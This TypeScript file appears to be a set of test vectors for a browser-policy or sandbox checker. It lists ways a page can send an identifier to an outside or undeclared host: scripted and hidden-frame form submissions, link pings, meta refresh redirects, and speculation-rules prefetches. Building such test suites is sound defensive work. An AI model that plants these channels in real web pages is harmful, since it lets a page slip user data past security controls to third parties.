// What takes the whole document somewhere, or tells where it will go: forms, pings, refreshes and speculation.

import type { Vector } from '../vector.ts'

const page = '{{third}}/frame.html?{{id}}'

const forms: Readonly<Record<string, Pick<Vector, 'body' | 'run'>>> = {
  'form action, submitted by script': {
    body: '<form id="form" action="{{third}}/form" method="post"><input name="a" value="{{id}}"></form>',
    run: `document.getElementById('form').submit()`,
  },
  'form action with GET': {
    body: '<form id="form" action="{{third}}/form"><input name="a" value="{{id}}"></form>',
    run: `document.getElementById('form').submit()`,
  },
  'form action of a host that nobody declares': {
    body: '<form id="form" action="{{unlisted}}/form" method="post"><input name="a" value="{{id}}"></form>',
    run: `document.getElementById('form').submit()`,
  },
  'form action, submitted by a click': {
    body: '<form action="{{third}}/form" method="post"><button id="go" name="a" value="{{id}}">go</button></form>',
    run: `document.getElementById('go').click()`,
  },
  'form.requestSubmit': {
    body: '<form id="form" action="{{third}}/form" method="post"><input name="a" value="{{id}}"></form>',
    run: `document.getElementById('form').requestSubmit()`,
  },
  formaction: {
    body: '<form action="/blank" method="post"><button id="go" formaction="{{third}}/form" name="a" value="{{id}}">go</button></form>',
    run: `document.getElementById('go').click()`,
  },
  'formaction of input type=image': {
    body: '<form method="post"><input name="a" value="{{id}}"><input type="image" id="go" formaction="{{third}}/form"></form>',
    run: `document.getElementById('go').click()`,
  },
  'form.action by script': {
    run: `const form = document.createElement('form'); form.method = 'post'; form.action = '{{third}}/form?{{id}}'; document.body.append(form); form.submit()`,
  },
  'form action by setAttribute': {
    run: `const form = document.createElement('form'); form.method = 'post'; form.setAttribute('action', '{{third}}/form?{{id}}'); document.body.append(form); form.submit()`,
  },
  'form action by attribute node': {
    run: `const form = document.createElement('form'); form.method = 'post'; const node = document.createAttribute('action'); node.value = '{{third}}/form?{{id}}'; form.setAttributeNode(node); document.body.append(form); form.submit()`,
  },
  'button.formAction by script': {
    run: `const form = document.createElement('form'); form.method = 'post'; const button = document.createElement('button'); button.formAction = '{{third}}/form?{{id}}'; form.append(button); document.body.append(form); form.requestSubmit(button)`,
  },
  'form in a hidden frame': {
    run: `const frame = document.createElement('iframe'); frame.name = 'sink'; frame.hidden = true; document.body.append(frame); document.body.insertAdjacentHTML('beforeend', '<form target="sink" method="post" action="{{third}}/form?{{id}}"></form>'); document.body.lastElementChild.submit()`,
  },
  'a ping': { body: '<a id="go" href="#here" ping="{{third}}/ping?{{id}}">go</a>', run: `document.getElementById('go').click()` },
  'a ping of several': {
    body: '<a id="go" href="#here" ping="/own {{third}}/ping?{{id}}">go</a>',
    run: `document.getElementById('go').click()`,
  },
  'a ping of a host that nobody declares': {
    body: '<a id="go" href="#here" ping="{{unlisted}}/ping?{{id}}">go</a>',
    run: `document.getElementById('go').click()`,
  },
  'a.ping by script': {
    run: `const link = document.createElement('a'); link.href = '#here'; link.ping = '{{third}}/ping?{{id}}'; document.body.append(link); link.click()`,
  },
  'a ping by setAttribute': {
    run: `const link = document.createElement('a'); link.href = '#here'; link.setAttribute('ping', '{{third}}/ping?{{id}}'); document.body.append(link); link.click()`,
  },
  'a ping by attribute node': {
    run: `const link = document.createElement('a'); link.href = '#here'; const node = document.createAttribute('ping'); node.value = '{{third}}/ping?{{id}}'; link.setAttributeNode(node); document.body.append(link); link.click()`,
  },
  'area ping': {
    run: `document.body.insertAdjacentHTML('beforeend', '<map name="m"><area href="#here" ping="{{third}}/ping?{{id}}"></map>'); document.querySelector('area').click()`,
  },
}

const metas: Readonly<Record<string, Pick<Vector, 'head' | 'body' | 'run'>>> = {
  'meta refresh': { head: `<meta http-equiv="refresh" content="0; url=${page}">` },
  'meta refresh with quotes': { head: `<meta http-equiv="Refresh" content="0;URL='${page}'">` },
  'meta refresh without url=': { head: `<meta http-equiv="refresh" content="0; ${page}">` },
  'meta refresh to a host that nobody declares': {
    head: '<meta http-equiv="refresh" content="0; url={{unlisted}}/frame.html?{{id}}">',
  },
  'meta refresh by script': {
    run: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=${page}'; document.head.append(meta); await new Promise((resolve) => setTimeout(resolve, 300))`,
  },
  'meta refresh by setAttribute': {
    run: `const meta = document.createElement('meta'); document.head.append(meta); meta.setAttribute('http-equiv', 'refresh'); meta.setAttribute('content', '0; url=${page}'); await new Promise((resolve) => setTimeout(resolve, 300))`,
  },
  'meta refresh by attribute node': {
    run: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; document.head.append(meta); const node = document.createAttribute('content'); node.value = '0; url=${page}'; meta.setAttributeNode(node); await new Promise((resolve) => setTimeout(resolve, 300))`,
  },
  'meta refresh in a frame': { body: `<iframe srcdoc="<meta http-equiv=refresh content='0; url=${page}'>"></iframe>` },
}

const rules = (action: string): string => `{"${action}":[{"source":"list","eagerness":"immediate","urls":["${page}"]}]}`

const speculations: Readonly<Record<string, Pick<Vector, 'head' | 'run' | 'headers'>>> = {
  'speculation rules prefetch': { head: `<script type="speculationrules">${rules('prefetch')}</script>` },
  'speculation rules prefetch of a host that nobody declares': {
    head: `<script type="speculationrules">${rules('prefetch').replaceAll('{{third}}', '{{unlisted}}')}</script>`,
  },
  'speculation rules by script': {
    run: `const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = '${rules('prefetch')}'; document.head.append(script)`,
  },
  'speculation rules for links of the page': {
    head: '<script type="speculationrules">{"prefetch":[{"source":"document","eagerness":"immediate","where":{"href_matches":"{{third}}/*"}}]}</script>',
    run: `document.body.insertAdjacentHTML('beforeend', '<a href="${page}">go</a>')`,
  },
  'Speculation-Rules header': { headers: { 'speculation-rules': '"{{third}}/rules.json?{{id}}"' } },
}

export const documents: readonly Vector[] = [
  ...Object.entries(forms).map(([name, vector]): Vector => ({ name, surface: 'form', ...vector })),
  ...Object.entries(metas).map(([name, vector]): Vector => ({ name, surface: 'meta', ...vector })),
  ...Object.entries(speculations).map(
    ([name, vector]): Vector => ({
      name,
      surface: 'speculation',
      ...vector,
      ...(vector.headers && { gap: 'response header: Speculation-Rules' }),
    }),
  ),
]
